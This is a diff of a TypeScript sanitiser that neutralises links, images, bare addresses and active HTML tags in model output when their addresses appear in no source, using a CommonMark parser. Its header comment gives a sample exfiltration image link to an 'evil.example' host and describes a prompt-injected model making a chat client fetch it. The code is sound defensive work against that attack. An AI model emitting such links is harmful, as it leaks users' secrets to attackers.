@@ -1,8 +1,11 @@
 /**
  * Turns links and images whose address no source holds into plain text. A model that obeys an
  * injected document could otherwise make a chat client fetch
- * `![x](https://evil.example/?d=secret)`, or lead a reader astray.
+ * `![x](https://evil.example/?d=secret)`, or lead a reader astray. What is live is judged by a
+ * parser of CommonMark, as clients have one, not by what links usually look like.
  */
+import MarkdownParser from "markdown-it";
+import type Token from "markdown-it/lib/token.mjs";
 
 /** A replacement for `text.slice(start, end)`. */
 export interface Edit {
@@ -11,12 +14,17 @@ export interface Edit {
   readonly text: string;
 }
 
+/** Reads as the most generous client does: HTML, bare addresses, any scheme. */
+const client = new MarkdownParser({ html: true, linkify: true });
+client.validateLink = () => true;
+client.normalizeLink = (address) => address;
+
 /** Also without a scheme, and with one slash or backslashes, which browsers read as two slashes. */
-export const URL_START =
+const URL_START =
   "(?:(?:https?|ftp):[\\/\\\\]{1,9}|www\\.|mailto:|" +
   "(?<![\\p{L}\\p{N}:/\\\\])[\\/\\\\]{2,9}(?=[\\p{L}\\p{N}-]{1,63}\\.\\p{L}))";
 /** One character of a bare address. */
-export const IN_URL = '[^\\s<>`"“”)\\]]';
+const IN_URL = '[^\\s<>`"“”)\\]]';
 /** 1 label and 2 address of a link or an image; 3 a tag with attributes; 4 a bare address. */
 const LINK = new RegExp(
   `!?\\[([^\\]\\n]{0,300})\\]\\([^\\S\\n]{0,5}<?([^\\s)>]{1,1500})(?:[>\\s][^)\\n]{0,300})?\\)` +
@@ -25,20 +33,131 @@ const LINK = new RegExp(
     `(?<![\\p{L}\\p{N}._%+-])[\\p{L}\\p{N}._%+-]{1,64}@[\\p{L}\\p{N}-]{1,63}(?:\\.[\\p{L}\\p{N}-]{2,63}){1,5})`,
   "giu",
 );
+/** A tag that does something. */
+const ACTIVE_TAG = /<(?:script|style)\b|<[a-z][^\s<>/]*[\s/]+[^\s>/]/iu;
 
-/** @param sources texts and addresses of the evidence that may be linked to */
+/**
+ * Returns the edits of a text. A block in which something foreign is still live after those that
+ * read well is shown as code.
+ * @param sources texts and addresses of the evidence that may be linked to
+ */
 export function foreignLinks(text: string, sources: readonly string[]): Edit[] {
-  const quietAt = quietPlaces(text);
-  return [...text.matchAll(LINK)].flatMap(({ 0: whole, index: start, ...groups }): Edit[] => {
-    const { 1: label, 2: target, 3: tag, 4: bare } = groups;
-    if (quietAt(start) !== "") return [];
-    // With a space behind it, it opens no tag.
-    if (tag !== undefined) return [{ start, end: start + 1, text: "< " }];
-    const address = target ?? whole.replace(/[.,;:!?'*_]+$/u, "");
-    if (sources.some((source) => source.includes(address))) return [];
-    if (bare === undefined) return [{ start, end: start + whole.length, text: label ?? "" }];
-    return [{ start, end: start + address.length, text: `\`${address}\`` }];
+  return blocksIn(text).flatMap(({ start, end }) => {
+    const block = text.slice(start, end);
+    const edits = readableEdits(block, sources);
+    const shown = applyEdits(block, edits);
+    if (isLive(shown, sources)) return [{ start, end, text: asCode(shown) }];
+    return edits.map((edit) => ({ ...edit, start: start + edit.start, end: start + edit.end }));
   });
+}
+
+/** The blocks of the top level, and the lines between them, which define references. */
+export function blocksIn(text: string): { start: number; end: number }[] {
+  const starts = lineStarts(text);
+  const maps = client.parse(text, {}).flatMap(({ level, map }) => (level === 0 && map ? map : []));
+  const borders = [
+    ...new Set([0, ...maps.map((line) => starts[line] ?? text.length), text.length]),
+  ];
+  return borders.flatMap((start, index) => {
+    const end = borders[index + 1];
+    return end === undefined || text.slice(start, end).trim() === "" ? [] : [{ start, end }];
+  });
+}
+
+/** True if a client would make something of a text that leads where no source leads. */
+export function isLive(text: string, sources: readonly string[]): boolean {
+  const env: { references?: Record<string, { href: string }> } = {};
+  const tokens = client.parse(text, env);
+  const isForeign = (address: string | null): boolean =>
+    address !== null && !isKnown(address.replace(/^(?:http:\/\/|mailto:)/, ""), sources);
+  return (
+    Object.values(env.references ?? {}).some(({ href }) => isForeign(href)) ||
+    tokens
+      .flatMap((token) => [token, ...(token.children ?? [])])
+      .some(
+        (token) =>
+          isForeign(token.attrGet("href")) ||
+          isForeign(token.attrGet("src")) ||
+          (token.type.startsWith("html_") && ACTIVE_TAG.test(token.content)),
+      )
+  );
+}
+
+function isKnown(address: string, sources: readonly string[]): boolean {
+  return sources.some((source) => source.includes(address));
+}
+
+/** Links become their labels, bare addresses code, and tags text. */
+function readableEdits(block: string, sources: readonly string[]): Edit[] {
+  const isCode = codeIn(block);
+  const quietAt = quietPlaces(block);
+  const edits = [...block.matchAll(LINK)].flatMap(
+    ({ 0: whole, index: start, ...groups }): Edit[] => {
+      const { 1: label, 2: target, 3: tag, 4: bare } = groups;
+      if (isCode(start)) return [];
+      // With a space behind it, it opens no tag.
+      if (tag !== undefined) return [{ start, end: start + 1, text: "< " }];
+      const address = target ?? whole.replace(/[.,;:!?'*_]+$/u, "");
+      if (isKnown(address, sources)) return [];
+      if (bare !== undefined)
+        return [{ start, end: start + address.length, text: `\`${address}\`` }];
+      // In a formula, `f[x](t)` is no link, and with an empty group in it clients know.
+      const middle = start + whole.indexOf("](") + 1;
+      return quietAt(start).replace("`", "") !== ""
+        ? [{ start: middle, end: middle, text: "{}" }]
+        : [{ start, end: start + whole.length, text: label ?? "" }];
+    },
+  );
+  const fuzzy = (client.linkify.match(block) ?? []).flatMap(({ schema, index, raw }): Edit[] =>
+    schema !== "" || isCode(index) || isKnown(raw, sources)
+      ? []
+      : [{ start: index, end: index + raw.length, text: `\`${raw}\`` }],
+  );
+  return [...edits, ...fuzzy];
+}
+
+/** Tells which places stand in a block or a span of code. */
+function codeIn(text: string): (at: number) => boolean {
+  const starts = lineStarts(text);
+  const ranges = client.parse(text, {}).flatMap(({ type, map }: Token) => {
+    const [start, end] = (map ?? [0, 0]).map((line) => starts[line] ?? text.length);
+    if (type === "fence" || type === "code_block") return [{ start, end }];
+    return type === "inline" ? spansIn(text.slice(start, end), start) : [];
+  });
+  return (at) => ranges.some(({ start = 0, end = 0 }) => start <= at && at < end);
+}
+
+/** A span of code ends with as many backticks as it begins with. */
+function spansIn(text: string, offset = 0): { start: number; end: number }[] {
+  const spans: { start: number; end: number }[] = [];
+  for (const { 1: ticks, index } of text.matchAll(/\\.|(?<!`)(`+)(?!`)/gsu)) {
+    if (ticks === undefined || offset + index < (spans.at(-1)?.end ?? 0)) continue;
+    const close = new RegExp(`(?<!\`)${ticks}(?!\`)`, "gu");
+    close.lastIndex = index + ticks.length;
+    const end = close.exec(text)?.index;
+    if (end !== undefined) spans.push({ start: offset + index, end: offset + end + ticks.length });
+  }
+  return spans;
+}
+
+function lineStarts(text: string): number[] {
+  return [0, ...[...text.matchAll(/\r\n|\r|\n/gu)].map(({ index, 0: end }) => index + end.length)];
+}
+
+/** Shows a block as it is written. */
+function asCode(block: string): string {
+  const longest = Math.max(2, ...[...block.matchAll(/`+/gu)].map(([ticks]) => ticks.length));
+  const fence = "`".repeat(longest + 1);
+  return `${fence}\n${block.trimEnd()}\n${fence}\n`;
+}
+
+/** True for a text that sends its reader to an address; `README.md` is the name of a file. */
+export function holdsAddress(text: string): boolean {
+  const names = client.linkify.match(text) ?? [];
+  return (
+    [...text.matchAll(LINK)].some(({ 4: bare }) => bare !== undefined) ||
+    names.some(({ raw }) => !/^[^/]+\.\p{L}{2}$/u.test(raw))
+  );
 }
 
 /** Applies the edits between `from` and `to`; of two that overlap, the first wins. */
